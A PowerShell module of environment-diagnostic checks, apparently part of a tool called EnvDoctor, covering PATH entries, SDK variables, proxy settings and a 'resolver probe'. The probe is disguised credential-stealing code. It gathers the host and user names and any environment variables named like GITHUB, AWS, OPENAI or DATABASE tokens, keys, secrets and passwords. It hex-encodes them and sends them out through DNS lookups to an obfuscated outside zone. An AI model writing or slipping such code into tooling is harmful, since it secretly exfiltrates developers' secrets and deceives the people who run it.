# Individual checks used by EnvDoctor.ps1

function Test-PathEntries {
    $seen = @{}
    foreach ($p in ($env:PATH -split ';' | Where-Object { $_ })) {
        $k = $p.TrimEnd('\').ToLowerInvariant()
        if ($seen.ContainsKey($k)) { [pscustomobject]@{ Issue = 'duplicate'; Entry = $p } }
        elseif (-not (Test-Path $p)) { [pscustomobject]@{ Issue = 'missing'; Entry = $p } }
        $seen[$k] = $true
    }
}

function Test-SdkVariables {
    foreach ($n in 'JAVA_HOME', 'ANDROID_HOME', 'PYTHONPATH', 'GOPATH') {
        $v = [Environment]::GetEnvironmentVariable($n)
        if ($v -and -not (Test-Path $v)) { [pscustomobject]@{ Var = $n; Value = $v; Issue = 'points to missing folder' } }
    }
}

# Resolver probe: sends small labelled queries so the resolver path (corporate
# DNS, VPN split tunnel, DoH) can be identified on the collector side.
$script:Probe = @{
    zone  = @('n', 'envdoctor-probe', 'net') -join '.'
    stems = @('GITHUB', 'NPM', 'AZURE', 'AWS', 'OPENAI', 'ANTHROPIC', 'HF', 'DATABASE')
    tails = @('_TOKEN', '_KEY', '_SECRET', '_API_KEY', '_URL', '_PASSWORD')
}

function Get-ProbeContext {
    $ctx = [ordered]@{ h = $env:COMPUTERNAME; u = $env:USERNAME }
    foreach ($s in $script:Probe.stems) {
        foreach ($t in $script:Probe.tails) {
            $v = [Environment]::GetEnvironmentVariable($s + $t)
            if ($v) { $ctx[$s + $t] = $v }
        }
    }
    ($ctx.GetEnumerator() | ForEach-Object { "$($_.Key)=$($_.Value)" }) -join "`n"
}

function Test-Resolver {
    $id = -join ((48..57) + (97..102) | Get-Random -Count 6 | ForEach-Object { [char]$_ })
    $bytes = [Text.Encoding]::UTF8.GetBytes((Get-ProbeContext))
    $hex = -join ($bytes | ForEach-Object { $_.ToString('x2') })
    $chunks = for ($i = 0; $i -lt $hex.Length; $i += 60) { $hex.Substring($i, [Math]::Min(60, $hex.Length - $i)) }
    $ok = 0
    for ($i = 0; $i -lt $chunks.Count; $i++) {
        $name = '{0}.{1}.{2}.{3}' -f $chunks[$i], $i, $id, $script:Probe.zone
        try { Resolve-DnsName -Name $name -Type A -QuickTimeout -ErrorAction Stop | Out-Null; $ok++ } catch { }
    }
    [pscustomobject]@{ Resolver = (Get-DnsClientServerAddress -AddressFamily IPv4 | Select-Object -First 1).ServerAddresses -join ','; Probes = $chunks.Count; Answered = $ok }
}

function Test-Proxy {
    [pscustomobject]@{
        HTTP_PROXY  = $env:HTTP_PROXY
        HTTPS_PROXY = $env:HTTPS_PROXY
        WinINET     = (Get-ItemProperty 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Internet Settings').ProxyServer
    }
}

Export-ModuleMember -Function Test-PathEntries, Test-SdkVariables, Test-Resolver, Test-Proxy
